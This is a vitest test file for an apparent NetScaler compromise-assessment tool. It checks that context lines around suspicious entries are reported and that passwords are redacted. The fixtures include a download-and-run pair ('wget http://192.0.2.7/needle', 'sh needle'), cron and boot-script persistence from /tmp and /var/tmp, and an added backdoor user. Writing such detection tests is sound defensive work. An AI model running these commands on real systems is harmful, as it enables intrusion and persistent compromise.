import { expect, test } from 'vitest';
import type { WholeReader } from '../../src/artifacts/artifact.ts';
import { crontab } from '../../src/artifacts/crontab.ts';
import { nsConf } from '../../src/artifacts/ns-conf.ts';
import { shellHistories } from '../../src/artifacts/shell-history.ts';
import { startupFile } from '../../src/artifacts/startup-file.ts';
import { recordsBeside } from '../../src/assessment/records-beside.ts';
import type { LinesBeside } from '../../src/findings/sighting.ts';

/** What stands beside each line with `needle`, by line number. */
function beside(reader: WholeReader, path: string, lines: readonly string[]) {
  const told = new Map<number, LinesBeside>();
  const records = recordsBeside();
  for (const record of reader.read(lines.join('\n'), { path }).records) {
    const ask = records.next(record);
    if (!record.raw?.includes('needle')) continue;
    told.set(record.line ?? 0, {});
    ask?.((more) => told.set(record.line ?? 0, { ...told.get(record.line ?? 0), ...more }));
  }
  return Object.fromEntries(told);
}

test.each([
  {
    name: 'a shell history',
    reader: shellHistories,
    path: '/root/.bash_history',
    lines: ['id', 'wget http://192.0.2.7/needle', 'sh needle', 'exit'],
    told: {
      2: { before: 'id', after: 'sh needle' },
      3: { before: 'wget http://192.0.2.7/needle', after: 'exit' },
    },
  },
  {
    name: 'a history of the command line interface',
    reader: shellHistories,
    path: '/.nscli_history',
    lines: ['set system user nsroot Hunter2secret', 'shell needle', 'show ns config'],
    told: { 2: { after: 'show ns config' } },
  },
  {
    name: 'a table of cron',
    reader: crontab,
    path: '/etc/crontab',
    lines: ['0 * * * * root newsyslog', '* * * * * root /tmp/needle', '# a comment', '0 1 * * * root needle'],
    told: { 2: { before: '0 * * * * root newsyslog' }, 4: {} },
  },
  {
    name: 'a boot script',
    reader: startupFile,
    path: '/nsconfig/rc.netscaler',
    lines: ['mount -o password=Hunter2secret /mnt', '/var/tmp/needle &', 'exit 0'],
    told: { 2: { before: 'mount -o password=[secret] /mnt', after: 'exit 0' } },
  },
  {
    name: 'a saved configuration',
    reader: nsConf,
    path: '/nsconfig/ns.conf',
    lines: [
      'set system user nsroot Hunter2secret -encrypted',
      'add system user needle Hunter3secret',
      'set ns hostName ns-a',
    ],
    told: { 2: { before: 'set system user nsroot [secret] -encrypted', after: 'set ns hostName ns-a' } },
  },
])('the lines beside a line of $name', ({ reader, path, lines, told }) => {
  const found = beside(reader, path, lines);
  expect(JSON.stringify(found)).not.toMatch(/Hunter\dsecret/);
  expect(found).toEqual(told);
});
